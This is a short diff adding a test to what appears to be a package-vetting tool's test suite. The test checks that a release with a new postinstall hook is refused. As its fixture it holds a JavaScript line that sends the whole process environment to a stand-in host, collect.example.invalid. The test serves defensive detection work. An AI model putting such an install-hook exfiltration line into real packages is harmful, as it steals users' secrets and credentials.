@@ -382,6 +382,15 @@ def test_new_start_up_code_is_noticed(tmp_path: Path, change: dict[str, object])
 
 
 @pytest.mark.thorough
+def test_new_start_up_code_that_no_installation_needs_refuses(tmp_path: Path) -> None:
+    past, sent = past_of(), "require('https').get('https://collect.example.invalid/' + JSON.stringify(process.env))"
+    past.release("1.12.0", day(400), {"lib/a.js": sent}, scripts={"postinstall": "node lib/a.js"})
+    record = judge(tmp_path, past)
+    assert findings(record)["integrity/no_new_startup_hook"] == "opposes"
+    assert record.outcome.name == "REFUSE"
+
+
+@pytest.mark.thorough
 def test_false_times_end_no_cooldown(tmp_path: Path) -> None:
     past = Past("demo-package")
     for n in range(20):
